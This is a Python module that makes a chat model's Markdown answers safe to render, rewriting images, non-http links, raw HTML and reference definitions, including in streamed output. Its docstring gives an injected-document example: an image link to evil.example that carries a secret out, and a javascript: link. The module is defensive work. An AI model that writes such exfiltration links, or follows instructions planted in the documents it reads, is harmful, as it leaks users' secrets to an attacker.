"""What a chat answer may carry to a chat client that renders Markdown: text and plain links,
nothing that loads or runs by itself.

An answer is the model's text, and the model writes what the documents it read tell it to: a
hostile document can have it write ``![x](https://evil.example/?q=<secret>)`` (a client that
renders images sends the secret the moment it shows the answer) or
``[click](javascript:...)``. Before an answer leaves ``/v1/chat/completions`` it is
neutralised, as the Sources titles are:

- an **image** becomes a plain link where it points at this server (``serve.public_url``),
  else its alt text;
- a **link** stays where it is ``http:``, ``https:`` or ``mailto:``; any other (a
  ``javascript:``, ``data:`` or ``vbscript:`` URL, a relative one) becomes its text, as does
  an autolink (``<javascript:...>``) of another scheme;
- **raw HTML** (``<img>``, ``<a>``, any tag, inline or as a block) is shown as text;
- a **reference definition** (``[r]: url``) is shown as text, so no reference link or image
  resolves, whichever part of the answer came first.

The text is read as CommonMark by markdown-it-py (the parser the ``rich`` and ``mdformat``
projects use), with every link taken as a link (its own URL check off), and only what needs
it is rewritten: an answer without such things goes out byte for byte. The result is read
again until nothing is left to neutralise (rewriting one block can change how the next
reads). :class:`Stream` does the same for a streamed answer, holding back text from an
opening ``[``, ``![`` or ``<`` until what it opens is complete or plainly nothing (or
:data:`HOLD_MAX` characters have waited: then the opener is escaped), so a link split across
chunks is judged whole.
"""

from __future__ import annotations

import re
from bisect import bisect_right
from collections.abc import Callable, Iterator, Sequence
from typing import Any
from urllib.parse import urlsplit

from sleuth.errors import MissingDependency

try:
    from markdown_it import MarkdownIt
    from markdown_it.rules_block import reference
    from markdown_it.rules_inline import autolink, html_inline, image, link
    from markdown_it.token import Token
except ImportError as exc:  # pragma: no cover - the serve extra is missing
    raise MissingDependency(exc.name or "markdown-it-py", "serve") from None

HOLD_MAX = 1000  # characters a stream holds behind an unfinished link before escaping it
BATCH = 400  # characters a stream gathers once something must be read, before reading it
CONTEXT_MAX = 4000  # characters of an open block a stream reads a piece after, at most
PASSES = 4  # readings of an answer before whatever is left is escaped wholesale
LINK_SCHEMES = ("http://", "https://", "mailto:")
Replacement = tuple[int, int, str]  # (start, end, text) in the text read

_TEXT = {"\\": "\\\\", "[": "\\[", "]": "\\]", "<": "&lt;", ">": "&gt;", "&": "&amp;",
         "*": "\\*", "_": "\\_", "`": "\\`", "\n": " ", "\r": " "}
_OPENER = re.compile(r"[\[<]")
_BLANK = re.compile(r"\n[ \t]*\n")
_DEFINITION = re.compile(r"!?\[(?:[^\[\]\\]|\\.)*\]:")
# what a piece of a stream must hold to make anything live: an inline link or image ("]("),
# an autolink or tag ("<"), a definition ("]:"); a reference link or image needs a
# definition, and definitions are always escaped
_RISKY = re.compile(r"\]\(|<|\]:")


def markdown_text(text: str) -> str:
    """``text`` shown as itself in Markdown: no link, no emphasis, no HTML a chat app would
    render, on one line."""
    return "".join(_TEXT.get(ch, ch) for ch in text)


def _spanned(rule: Callable[..., bool]) -> Callable[..., bool]:
    """``rule`` (an inline rule of markdown-it) that also records where in the inline text
    the token it makes starts and ends (``meta["span"]``)."""

    def run(state: Any, silent: bool) -> bool:
        start, made = state.pos, len(state.tokens)
        made += bool(state.pending)  # the text before it is pushed first, as its own token
        if not rule(state, silent):
            return False
        if not silent and len(state.tokens) > made:
            state.tokens[made].meta["span"] = (start, state.pos)
        return True

    return run


def _definitions(state: Any, start: int, end: int, silent: bool) -> bool:
    """markdown-it's reference rule, also recording the first line of every definition
    (a repeated label's too, which it would otherwise leave no trace of)."""
    if not reference(state, start, end, silent):
        return False
    if not silent:
        state.env.setdefault("sleuth_definitions", []).append(start)
    return True


def _parser() -> MarkdownIt:
    md = MarkdownIt("commonmark")
    md.validateLink = lambda url: True  # type: ignore[method-assign] # judged here
    for name, rule in (("link", link), ("image", image), ("autolink", autolink),
                       ("html_inline", html_inline)):
        md.inline.ruler.at(name, _spanned(rule))
    md.block.ruler.at("reference", _definitions)
    return md


_MD = _parser()


def neutralise(text: str, base: str) -> str:
    """``text`` (Markdown) with its images, unsafe links, raw HTML and reference definitions
    made harmless (see the module docstring); ``base`` is this server's address, whose
    images may stay as links."""
    text = _normal(text)
    for _ in range(PASSES):
        found = replacements(text, base)
        if not found:
            return text
        text = _apply(text, found, 0)
    return _escaped(text) if replacements(text, base) else text


def replacements(text: str, base: str) -> list[Replacement]:
    """What to rewrite in ``text`` (normalised line ends), outermost first, in order."""
    return _read(text, base)[0]


def _read(text: str, base: str) -> tuple[list[Replacement], int]:
    """:func:`replacements` of ``text``, and where its last top-level block starts: what
    more text can still change (a block closed before it is final; definitions aside, which
    are always escaped)."""
    env: dict[str, Any] = {}
    tokens = _MD.parse(text, env)
    starts = _line_starts(text)
    last = max((t.map[0] for t in tokens if t.level == 0 and t.map), default=0)
    out: list[Replacement] = []
    for token in tokens:
        if token.type == "html_block" and token.map:
            out += _lines(text, starts, token.map, lambda line: line.replace("<", "&lt;"))
        elif token.type == "inline" and token.children and token.map:
            out += _inline(text, starts, token, base)
    for line in env.get("sleuth_definitions", []):
        bracket = text.find("[", starts[line], _line_end(text, starts, line))
        if bracket >= 0:
            out.append((bracket, bracket + 1, "\\["))
    return _outermost(out), starts[min(last, len(starts) - 1)]


def _inline(text: str, starts: Sequence[int], token: Token, base: str) -> list[Replacement]:
    """The replacements in one block's inline content, placed in ``text``; where they cannot
    be placed, the block's lines escaped."""
    found = list(_judged(token.children or [], base))
    if not found:
        return []
    assert token.map is not None
    where = _place(token.content, text, starts, token.map[0])
    if where is None or any(span is None for span, _ in found):
        return _lines(text, starts, token.map, _escaped)
    return [(where(span[0]), where(span[1] - 1) + 1, new) for span, new in found if span]


def _judged(children: Sequence[Token], base: str
            ) -> Iterator[tuple[tuple[int, int] | None, str]]:
    """(span in the inline content, replacement) of each image, unsafe link and HTML tag
    among ``children``; a span None where the parser recorded none."""
    i = 0
    while i < len(children):
        token = children[i]
        span = token.meta.get("span") if token.meta else None
        if token.type == "link_open":
            close = next((j for j in range(i + 1, len(children))
                          if children[j].type == "link_close"), len(children))
            if not str(token.attrs.get("href", "")).strip().lower().startswith(LINK_SCHEMES):
                yield span, markdown_text(_plain(children[i + 1:close]))
                i = close + 1
                continue
        elif token.type == "image":
            yield span, _image(token, base)
        elif token.type == "html_inline":
            yield span, markdown_text(token.content)
        i += 1


def _image(token: Token, base: str) -> str:
    """An image as a plain link where it is this server's, else as its alt text."""
    alt = markdown_text(_plain(token.children or [])) or "image"
    src = str(token.attrs.get("src", ""))
    here, there = urlsplit(base), urlsplit(src)
    if there.scheme in ("http", "https") and (there.scheme, there.netloc.lower()) == (
            here.scheme, here.netloc.lower()) and not re.search(r"[<>\s]", src):
        return f"[{alt}](<{src}>)"
    return alt


def _plain(tokens: Sequence[Token]) -> str:
    """The text a run of inline tokens shows (an image: its alt text)."""
    parts = []
    for token in tokens:
        if token.type in ("text", "code_inline", "html_inline"):
            parts.append(token.content)
        elif token.type in ("softbreak", "hardbreak"):
            parts.append(" ")
        elif token.type == "image":
            parts.append(_plain(token.children or []))
    return "".join(parts)


def _place(content: str, text: str, starts: Sequence[int],
           first: int) -> Callable[[int], int] | None:
    """Where offsets of a block's inline ``content`` lie in ``text``: each content line is the
    end of source line ``first + k`` (container marks and indentation cut) or, in a heading,
    its middle; None where a line is not found (a tab the parser widened)."""
    begins, at = [], []
    offset = 0
    for k, part in enumerate(content.split("\n")):
        line = first + k
        if line >= len(starts):
            return None
        found = text.rfind(part, starts[line], _line_end(text, starts, line))
        if found < 0:
            return None
        begins.append(offset)
        at.append(found)
        offset += len(part) + 1

    def where(position: int) -> int:
        k = bisect_right(begins, position) - 1
        return at[k] + position - begins[k]

    return where


def _lines(text: str, starts: Sequence[int], span: Sequence[int],
           change: Callable[[str], str]) -> list[Replacement]:
    """Lines ``span[0]`` to ``span[1]`` (exclusive) of ``text``, each changed by ``change``."""
    out = []
    for line in range(span[0], min(span[1], len(starts))):
        end = _line_end(text, starts, line)
        new = change(text[starts[line]:end])
        if new != text[starts[line]:end]:
            out.append((starts[line], end, new))
    return out


def _escaped(text: str) -> str:
    """``text`` with no bracket or angle bracket left to open or close anything."""
    return text.replace("\\", "\\\\").replace("[", "\\[").replace("]", "\\]") \
        .replace("<", "&lt;")


def _line_starts(text: str) -> list[int]:
    return [0, *(m.end() for m in re.finditer("\n", text))]


def _line_end(text: str, starts: Sequence[int], line: int) -> int:
    return starts[line + 1] - 1 if line + 1 < len(starts) else len(text)


def _outermost(found: list[Replacement]) -> list[Replacement]:
    """``found`` in order, without those inside (or overlapping) one before."""
    out: list[Replacement] = []
    for start, end, new in sorted(found, key=lambda r: (r[0], -r[1])):
        if not out or start >= out[-1][1]:
            out.append((start, end, new))
    return out


def _apply(text: str, found: Sequence[Replacement], offset: int) -> str:
    """``text`` (which starts at ``offset`` of what ``found`` was read from) rewritten."""
    for start, end, new in reversed(found):
        text = text[:start - offset] + new + text[end - offset:]
    return text


def _normal(text: str) -> str:
    """Line ends and NULs as the parser reads them, so positions agree."""
    return text.replace("\r\n", "\n").replace("\r", "\n").replace("\0", "\ufffd")


class Stream:
    """A streamed answer made harmless as it comes: :meth:`feed` each piece and send what
    it returns, and what :meth:`flush` returns where the answer ends. Text after an opening
    ``[``, ``![`` or ``<`` waits until what it opens is complete or plainly not a link,
    image or tag; what is sent has been read together with what was sent before it, as the
    client will read it. Only text that could make something live is read (an inline link
    or image, an autolink or tag, a definition: :data:`_RISKY`), gathered to
    :data:`BATCH` characters, from the start of the last top-level block sent
    (:attr:`block`; the blocks before it are final) and at most :data:`CONTEXT_MAX`
    characters back: past that, its brackets are escaped unread."""

    def __init__(self, base: str) -> None:
        self.base = base
        self.sent = ""  # what the client has, as the client reads it
        self.pending = ""  # received, not sent
        self.settled = 0  # how much of pending opens nothing unfinished
        self.block = 0  # where in sent a top-level block starts that may still be open

    def feed(self, piece: str) -> str:
        self.pending += _normal(piece)
        cut = _open_at(self.pending, self.settled)
        while len(self.pending) - cut > HOLD_MAX:  # waited too long: it opens nothing
            opener = cut + 1 if self.pending[cut] == "!" else cut
            mark = "\\[" if self.pending[opener] == "[" else "&lt;"
            self.pending = self.pending[:opener] + mark + self.pending[opener + 1:]
            cut = _open_at(self.pending, cut)
        self.settled = cut
        if cut < BATCH and _RISKY.search(self.pending, 0, cut):
            return ""  # to be read with more of what follows
        return self._send(cut)

    def flush(self) -> str:
        """What is held, sent now: the answer ends or gives way to a step."""
        return self._send(len(self.pending))

    def _send(self, cut: int) -> str:
        piece, self.pending = self.pending[:cut], self.pending[cut:]
        self.settled = 0
        if _RISKY.search(piece):
            piece = self._judged(piece)
        self.sent += piece
        return piece

    def _judged(self, piece: str) -> str:
        """``piece`` rewritten as it reads after what was sent."""
        context = self.sent[self.block:]
        if len(context) > CONTEXT_MAX:
            return _escaped(piece)
        before = len(context)
        for _ in range(PASSES):
            found, last = _read(context + piece, self.base)
            if any(start < before < end for start, end, _ in found):
                return _escaped(piece)  # it would complete something already sent
            found = [r for r in found if r[0] >= before]
            if not found:
                self.block += min(last, before)
                return piece
            piece = _apply(piece, found, before)
        return _escaped(piece)


def _open_at(text: str, at: int = 0) -> int:
    """Where the first construct of ``text`` (from ``at``) starts that more text could still
    make a link, image or tag; ``len(text)`` when there is none."""
    while (found := _OPENER.search(text, at)) is not None:
        start = found.start()
        if _backslashes(text, start) % 2:  # an escaped opener opens nothing
            at = start + 1
            continue
        if text[start] == "[" and start and text[start - 1] == "!" and \
                _backslashes(text, start - 1) % 2 == 0:
            start -= 1
        if not _settled(text[start:]):
            return start
        at = found.end()
    if text.endswith("!") and _backslashes(text, len(text) - 1) % 2 == 0:
        return len(text) - 1  # it may open an image
    return len(text)


def _backslashes(text: str, position: int) -> int:
    count = 0
    while position - count > 0 and text[position - count - 1] == "\\":
        count += 1
    return count


def _settled(text: str) -> bool:
    """Whether what opens ``text`` is decided: a whole link, image, autolink or tag, or
    something no continuation could make one (a blank line ends every such thing)."""
    if _BLANK.search(text):
        return True
    if text.startswith("<"):
        if len(text) == 1:
            return False
        if not (text[1].isascii() and (text[1].isalpha() or text[1] in "/!?")):
            return True
        if ">" not in text:  # a tag, comment or autolink may run on to its ">"
            return False
        tails: list[str] = [">", "\">", "'>", "\"'>", "'\">", "-->", "?>", "]]>"]
    else:
        end = _label_end(text)
        if _DEFINITION.match(text) or end is None or end + 1 == len(text):
            return False  # a definition runs on until the paragraph ends; a label until "]"
        if text[end + 1] not in "(:" and "`" not in text[:end]:
            return True  # a reference at most, and definitions are escaped: never a link
        depth = min(text.count("(") - text.count(")"), 32) + 1
        brackets = min(text.count("[") - (0 if "`" in text else text.count("]")), 32)
        tails = ["]" * k + "(x)" for k in range(max(brackets, 0) + 1)]
        tails += [close + ")" * k for k in range(1, max(depth, 1) + 1)
                  for close in ("", "\"", "'", ">")]
    if _complete(text):
        return True
    return not any(_complete(text + tail) for tail in tails)


def _label_end(text: str) -> int | None:
    """Where the bracket opening ``text`` (``[`` or ``![``) closes, None while it is open
    (code spans aside: a label holding a backtick is read by the parser)."""
    depth, i = 0, 0
    while i < len(text):
        if text[i] == "\\":
            i += 2
            continue
        depth += {"[": 1, "]": -1}.get(text[i], 0)
        if depth == 0 and text[i] == "]":
            return i
        i += 1
    return None


def _complete(text: str) -> bool:
    """Whether ``text`` read as inline Markdown starts with a link, image, autolink or tag."""
    tokens = _MD.parseInline(text)
    children = tokens[0].children if tokens and tokens[0].children else []
    return bool(children) and children[0].type in ("link_open", "image", "html_inline") \
        and bool(children[0].meta) and children[0].meta.get("span", (1, 0))[0] == 0
